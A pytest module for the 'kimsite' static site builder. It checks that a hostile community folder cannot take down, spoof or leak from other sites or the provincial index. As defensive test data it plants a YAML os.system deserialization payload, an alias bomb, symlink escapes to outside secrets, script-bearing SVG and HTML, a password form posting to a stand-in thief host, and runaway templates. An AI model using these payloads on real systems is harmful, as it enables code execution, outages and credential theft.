"""One KIM's folder can never take down, impersonate or poison another KIM or the index.

Each case is an attacking KIM (`jahat`) next to two healthy ones. The attacker first
publishes an ordinary site; then one attack is planted inside `content/jahat/` only, and
the project is built again through the command line. Every case asserts:

- no traceback, exit code 1, the attacker's problem at the expected file (and line);
- both healthy KIMs' output byte-identical to a build of the project without the attacker;
- the attacker's last good output byte-identical to what it published before;
- the index built, its pages parsed, its feed valid Atom, its sitemap valid;
- nothing from outside the attacker's folder anywhere in build/, no staging folder left.
"""

from __future__ import annotations

import os
import shutil
from collections.abc import Callable
from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path

import pytest

from kimsite.build.pipeline import build
from kimsite.cli.main import main
from tests.helpers import (
    BASE_CONFIG,
    PIXEL,
    article,
    parse,
    parse_atom,
    profile,
    snapshot,
    validate_sitemap,
    write_file,
    write_project,
)

NOW = datetime(2026, 6, 1, tzinfo=UTC)
SECRET = "RAHASIA-KIM-LAIN-7f3a"  # planted outside the attacker's folder, never published
INDEX = "kim.ntbprov.go.id"

HEALTHY = {
    "content/baik/kim.yaml": profile("KIM Baik", "52.71.01.1004"),
    "content/baik/artikel/2026-01-05-panen.md": article("Panen raya", "2026-01-05"),
    "content/baik/halaman/kontak.md": f"---\njudul: Kontak\n---\nHubungi kami. {SECRET}\n",
    "content/baik/media/foto.png": PIXEL,
    "content/sehat/kim.yaml": profile("KIM Sehat", "52.01.14.2006"),
    "content/sehat/artikel/2026-02-01-posyandu.md": article("Posyandu", "2026-02-01"),
}
ATTACKER = {
    "content/jahat/kim.yaml": profile("KIM Jahat", "52.08.05.2003"),
    "content/jahat/artikel/2026-03-01-awal.md": article("Berita awal", "2026-03-01"),
    "content/jahat/media/ada.png": PIXEL,
}


@dataclass
class Attack:
    name: str
    plant: Callable[[Path], None]
    file: str  # where the attacker's problem must be reported
    line: int | None
    says: str  # part of the Indonesian message


def files(written: dict[str, str | bytes]) -> Callable[[Path], None]:
    """Plant files below content/jahat/."""

    def plant(root: Path) -> None:
        for rel, content in written.items():
            write_file(root / "content/jahat" / rel, content)

    return plant


def link(rel: str, target: Callable[[Path], Path | str]) -> Callable[[Path], None]:
    def plant(root: Path) -> None:
        path = root / "content/jahat" / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        os.symlink(target(root), path)

    return plant


def _outside_secret(root: Path) -> Path:
    secret = root / "rahasia.txt"
    secret.write_text(SECRET, encoding="utf-8")
    return secret


def _bad_name(name: bytes) -> Callable[[Path], None]:
    def plant(root: Path) -> None:
        media = os.fsencode(root / "content/jahat/media")
        with open(os.path.join(media, name), "wb") as f:
            f.write(PIXEL)

    return plant


def _profile_with(extra: str) -> Callable[[Path], None]:
    return files({"kim.yaml": profile("KIM Jahat", "52.08.05.2003") + extra})


def _both(*plants: Callable[[Path], None]) -> Callable[[Path], None]:
    def plant(root: Path) -> None:
        for p in plants:
            p(root)

    return plant


def _deep_quote() -> str:
    return article("Dalam", "2026-03-02", body="> " * 3000 + "isi\n")


ATTACKS = [
    Attack(
        "link to a folder inside media, made just before the build",
        link("media/galeri", lambda root: root / "content/jahat/artikel"),
        "content/jahat/media/galeri",
        None,
        "Tautan ke folder tidak didukung",
    ),
    Attack(
        "dangling link",
        link("media/hilang.png", lambda root: root / "tidak-ada.png"),
        "content/jahat/media/hilang.png",
        None,
        "yang tidak ada",
    ),
    Attack(
        "time zone offset of 99 hours",
        files({"artikel/x.md": article("Zona", "2026-01-01 10:00+99:00")}),
        "content/jahat/artikel/x.md",
        3,
        "tanggal",
    ),
    Attack(
        "date at the start of the calendar with an offset",
        files({"artikel/x.md": article("Kuno", "0001-01-01 00:00+05:00")}),
        "content/jahat/artikel/x.md",
        3,
        "di luar rentang yang masuk akal",
    ),
    Attack(
        "date at the end of the calendar with an offset",
        files({"artikel/x.md": article("Kiamat", "9999-12-31 23:59-12:00")}),
        "content/jahat/artikel/x.md",
        3,
        "di luar rentang yang masuk akal",
    ),
    Attack(
        "update date pinned in the far future",
        files({"artikel/x.md": article("Selalu atas", "2026-03-03", diperbarui="9999-12-31")}),
        "content/jahat/artikel/x.md",
        4,
        "di luar rentang yang masuk akal",
    ),
    Attack(
        "update date next year",
        files({"artikel/x.md": article("Tahun depan", "2026-03-03", diperbarui="2027-01-01")}),
        "content/jahat/artikel/x.md",
        4,
        "ada di masa depan",
    ),
    Attack(
        "media file name with a backslash",
        _bad_name(b"a\\b.png"),
        "content/jahat/media/a\\b.png",
        None,
        "garis miring terbalik",
    ),
    Attack(
        "media file name that is not UTF-8",
        _bad_name(b"foto-\xff\xfe.png"),
        "content/jahat/media/foto-\\xff\\xfe.png",
        None,
        "bukan UTF-8",
    ),
    Attack(
        "media file name with a terminal escape",
        _bad_name(b"x\x1b[31m.png"),
        "content/jahat/media/x\\x1b[31m.png",
        None,
        "karakter kendali",
    ),
    Attack(
        "YAML nested a hundred thousand levels (crashed libyaml)",
        files({"kim.yaml": 'nama: x\nkode_wilayah: "52.08.05.2003"\ndeskripsi: ' + "[" * 200_000}),
        "content/jahat/kim.yaml",
        3,
        "bersarang lebih dari 50 tingkat",
    ),
    Attack(
        "a Python object asked for in YAML",
        _profile_with("visi: !!python/object/apply:os.system ['touch /tmp/kimsite-pwned']\n"),
        "content/jahat/kim.yaml",
        4,
        "jenis data khusus YAML",
    ),
    Attack(
        "an alias bomb",
        _profile_with(
            'misi: &a ["x","x","x","x","x","x","x","x","x"]\n'
            + "".join(f"m{i}: &b{i} [*{'a' if i == 0 else f'b{i - 1}'}]\n" for i in range(30))
        ),
        "content/jahat/kim.yaml",
        5,
        "alias YAML",
    ),
    Attack(
        "another KIM's host",
        _profile_with("domain: baik.kim.id\n"),
        "content/jahat/kim.yaml",
        4,
        "belum diberikan provinsi",
    ),
    Attack(
        "the parent domain itself",
        _profile_with("domain: kim.id\n"),
        "content/jahat/kim.yaml",
        4,
        "belum diberikan provinsi",
    ),
    Attack(
        "a name under the index's domain",
        _profile_with(f"domain: www.{INDEX}\n"),
        "content/jahat/kim.yaml",
        4,
        "belum diberikan provinsi",
    ),
    Attack(
        "a page that is a link to another KIM's page",
        link("halaman/kontak.md", lambda root: root / "content/baik/halaman/kontak.md"),
        "content/jahat/halaman/kontak.md",
        None,
        "di luar folder KIM ini",
    ),
    Attack(
        "a 404 template that is a link to a file outside",
        link("templat/404.html", _outside_secret),
        "content/jahat/templat/404.html",
        None,
        "di luar folder KIM ini",
    ),
    Attack(
        "a hidden template that is a link to a file outside",
        _both(
            link("templat/.rahasia.html", _outside_secret),
            files({"templat/404.html": '{% include ".rahasia.html" %}'}),
        ),
        "content/jahat/templat/.rahasia.html",
        None,
        "di luar folder KIM ini",
    ),
    Attack(
        "an SVG with script",
        files(
            {
                "media/logo.svg": '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'
            }
        ),
        "content/jahat/media/logo.svg",
        None,
        "tidak diterbitkan dari folder media/",
    ),
    Attack(
        "an HTML file in media",
        files(
            {"media/masuk.html": "<form action=https://pencuri.example><input name=sandi></form>"}
        ),
        "content/jahat/media/masuk.html",
        None,
        "tidak diterbitkan dari folder media/",
    ),
    Attack(
        "HTML disguised as a photo",
        files({"media/foto.jpg": "<html><script>alert(1)</script></html>"}),
        "content/jahat/media/foto.jpg",
        None,
        "isinya bukan JPEG",
    ),
    Attack(
        "a control character in a title (YAML escape)",
        files({"artikel/x.md": '---\njudul: "Judul\\x01\\x0b"\ntanggal: 2026-03-03\n---\nIsi.\n'}),
        "content/jahat/artikel/x.md",
        2,
        "karakter kendali",
    ),
    Attack(
        "a raw control character in the body",
        files(
            {"artikel/x.md": article("Judul", "2026-03-03", body="Baris satu.\n\nBaris \x1b dua.")}
        ),
        "content/jahat/artikel/x.md",
        7,
        "karakter kendali",
    ),
    Attack(
        "a template that never ends",
        files(
            {
                "templat/404.html": "{% for i in range(100000) %}{% for j in range(100000) %}"
                "{% if i == j and i < 0 %}x{% endif %}{% endfor %}{% endfor %}"
            }
        ),
        "content/jahat",
        None,
        "lebih dari 2 detik",
    ),
    Attack(
        "a template that builds a page of gigabytes",
        files(
            {
                "templat/404.html": '{% set s = "x" * 1000000 %}{% for i in range(100000) %}{{ s }}{% endfor %}'
            }
        ),
        "content/jahat/templat/404.html",
        None,
        "tidak diizinkan",
    ),
]


def _deep_folders(root: Path) -> None:
    """Two thousand folders, one in another, below artikel/ (os.walk recurses per level),
    with an article a thousand deep: empty folders alone change nothing to build."""
    fd = os.open(root / "content/jahat/artikel", os.O_RDONLY)
    for level in range(2000):
        os.mkdir("a", dir_fd=fd)
        deeper = os.open("a", os.O_RDONLY, dir_fd=fd)
        os.close(fd)
        fd = deeper
        if level == 1000:
            made = os.open("berita.md", os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=fd)
            os.write(made, b"---\njudul: Dalam\ntanggal: 2026-05-01\n---\nIsi.\n")
            os.close(made)
    os.close(fd)


def _unnest(top: Path) -> None:
    """Remove _deep_folders' chain one level at a time (its paths pass PATH_MAX, and
    Python 3.11's rmtree recurses per level): each step moves the level below up."""
    spare = top.with_name("a-naik")
    while top.is_dir():
        for child in top.iterdir():
            if child.name == "a":
                child.rename(spare)
            else:
                child.unlink()
        top.rmdir()
        if spare.is_dir():
            spare.rename(top)


ATTACKS.append(
    Attack(
        "folders nested two thousand deep",
        _deep_folders,
        "content/jahat/artikel" + "/a" * 15,  # the sixteenth level, where reading stops
        None,
        "lebih dari 16 tingkat",
    )
)
# Python-Markdown recursion: a few hundred levels of quotes. It may build (then nothing to
# report) or be refused with a location; it must never be a traceback.
DEEP_MARKDOWN = Attack(
    "Markdown nested thousands of levels",
    files({"artikel/dalam.md": _deep_quote()}),
    "content/jahat/artikel/dalam.md",
    None,
    "",
)


CONFIG = BASE_CONFIG + "batas_detik_kim: 2\n"  # a template that never ends fails fast


def _project(root: Path, with_attacker: bool) -> Path:
    files = dict(HEALTHY)
    if with_attacker:
        files.update(ATTACKER)
    return write_project(root, files, config=CONFIG)


@pytest.fixture(scope="module")
def reference(tmp_path_factory: pytest.TempPathFactory) -> dict[str, dict[str, bytes]]:
    """The healthy KIMs' output when the attacker does not exist at all."""
    root = _project(tmp_path_factory.mktemp("ref") / "p", with_attacker=False)
    report = build(root / "config.yaml", now=NOW)
    assert report.ok, [p.format() for p in report.problems]
    return {host: snapshot(root / "build" / host) for host in ("baik.kim.id", "sehat.kim.id")}


@pytest.mark.parametrize("attack", [*ATTACKS, DEEP_MARKDOWN], ids=lambda a: a.name)
def test_hostile_kim_is_contained(
    attack: Attack,
    reference: dict[str, dict[str, bytes]],
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
    request: pytest.FixtureRequest,
) -> None:
    root = _project(tmp_path / "p", with_attacker=True)
    # pytest cannot remove a tree deeper than PATH_MAX: the deep-folders attack's goes here.
    request.addfinalizer(lambda: _unnest(root / "content/jahat/artikel/a"))
    first = build(root / "config.yaml", now=NOW)
    assert first.ok, [p.format() for p in first.problems]
    attacker_before = snapshot(root / "build/jahat.kim.id")

    attack.plant(root)
    monkeypatch.chdir(root)
    monkeypatch.setenv("SOURCE_DATE_EPOCH", str(int(NOW.timestamp())))
    code = main(["build", "--config", "config.yaml"])
    out = capsys.readouterr()
    printed = out.err + out.out
    assert "Traceback" not in printed
    expected_file = attack.file
    if attack is DEEP_MARKDOWN:
        assert code in (0, 1)
        if code == 1:
            assert any(line.startswith(expected_file + ":") for line in printed.splitlines())
    else:
        assert code == 1, printed
        where = f"{expected_file}:{attack.line}: " if attack.line else f"{expected_file}: "
        matching = [line for line in printed.splitlines() if line.startswith(where)]
        assert matching, f"no message at {where!r} in:\n{printed}"
        assert any(attack.says in line for line in matching), matching
        assert snapshot(root / "build/jahat.kim.id") == attacker_before

    build_dir = root / "build"
    for host, files_before in reference.items():
        assert snapshot(build_dir / host) == files_before, f"{host} changed"
    _index_is_whole(build_dir)
    assert not (build_dir / ".kimsite-tmp").exists()
    for path in build_dir.rglob("*"):
        if path.is_file() and "baik.kim.id" not in path.parts:
            assert SECRET.encode() not in path.read_bytes(), path
    assert not Path("/tmp/kimsite-pwned").exists()


def _index_is_whole(build_dir: Path) -> None:
    index = build_dir / INDEX
    home = parse(index / "index.html")
    names = " ".join(home.itertext())
    assert "KIM Baik" in names and "KIM Sehat" in names
    parse_atom(index / "feed.xml")
    validate_sitemap(index / "sitemap.xml")
    for host in ("baik.kim.id", "sehat.kim.id"):
        parse_atom(build_dir / host / "feed.xml")
        validate_sitemap(build_dir / host / "sitemap.xml")


def test_busy_kim_cannot_fill_the_index(tmp_path: Path) -> None:
    """Thirty fresh articles from one KIM: at most `berita_per_kim` of them (3 by default)
    among the index's latest news and in the province feed; the others' news stays."""
    files = dict(HEALTHY)
    files.update(ATTACKER)
    for n in range(30):
        files[f"content/jahat/artikel/2026-05-{n % 28 + 1:02d}-banjir-{n}.md"] = article(
            f"Berita banjir {n}", f"2026-05-{n % 28 + 1:02d} 10:{n:02d}"
        )
    root = write_project(tmp_path / "p", files, config=CONFIG)
    report = build(root / "config.yaml", now=NOW)
    assert report.ok, [p.format() for p in report.problems]
    feed = parse_atom(root / "build" / INDEX / "feed.xml")
    hosts = [entry.link.split("/")[2] for entry in feed.entries]
    assert hosts.count("jahat.kim.id") == 3
    assert "baik.kim.id" in hosts and "sehat.kim.id" in hosts
    home = (root / "build" / INDEX / "index.html").read_text(encoding="utf-8")
    assert home.count("Berita banjir") == 3
    assert "Panen raya" in home and "Posyandu" in home


def test_custom_domain_given_by_the_province(tmp_path: Path) -> None:
    """`domain_kustom` in config.yaml gives a host; the same line in kim.yaml then agrees."""
    config = CONFIG + "domain_kustom:\n  jahat: kimjahat.lombokbaratkab.go.id\n"
    files = dict(HEALTHY)
    files.update(ATTACKER)
    files["content/jahat/kim.yaml"] = profile(
        "KIM Jahat", "52.08.05.2003", domain="kimjahat.lombokbaratkab.go.id"
    )
    root = write_project(tmp_path / "p", files, config=config)
    report = build(root / "config.yaml", now=NOW)
    assert report.ok, [p.format() for p in report.problems]
    assert (root / "build/kimjahat.lombokbaratkab.go.id/index.html").is_file()
    assert not (root / "build/jahat.kim.id").exists()


@pytest.mark.parametrize(
    ("mapping", "says"),
    [
        ("jahat: baik.kim.id", None),  # baik keeps it by its folder name; jahat fails
        (f"jahat: www.{INDEX}", "di bawahnya"),
        ("jahat: go.id", "akhiran publik"),
        ("jahat: kim.id", "akhiran publik"),
        ("jahat: a.example.id\n  sehat: a.example.id", "sudah diberikan kepada KIM jahat"),
    ],
)
def test_custom_domains_are_checked(
    mapping: str, says: str | None, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    files = dict(HEALTHY)
    files.update(ATTACKER)
    config = CONFIG + "domain_kustom:\n  " + mapping + "\n"
    root = write_project(tmp_path / "p", files, config=config)
    code = main(["build", "--config", str(root / "config.yaml")])
    printed = capsys.readouterr().err
    assert code == 1 and "Traceback" not in printed
    if says is None:
        assert "adalah milik KIM baik" in printed
        assert (root / "build/baik.kim.id/index.html").is_file()
        assert "KIM Baik" in (root / "build/baik.kim.id/index.html").read_text(encoding="utf-8")
    else:
        assert "config.yaml:" in printed and says in printed, printed


def test_a_kim_folder_that_is_a_link_is_refused(tmp_path: Path) -> None:
    root = _project(tmp_path / "p", with_attacker=False)
    outside = tmp_path / "di-luar"
    write_project(outside, {"kim.yaml": profile("KIM Luar", "52.08.05.2003")}, config=None)
    shutil.rmtree(outside / "themes")
    os.symlink(outside, root / "content/luar")
    report = build(root / "config.yaml", now=NOW)
    assert [p.code for p in report.problems] == ["link.kim_folder"]
    assert not (root / "build/luar.kim.id").exists()
    assert (root / "build/baik.kim.id/index.html").is_file()
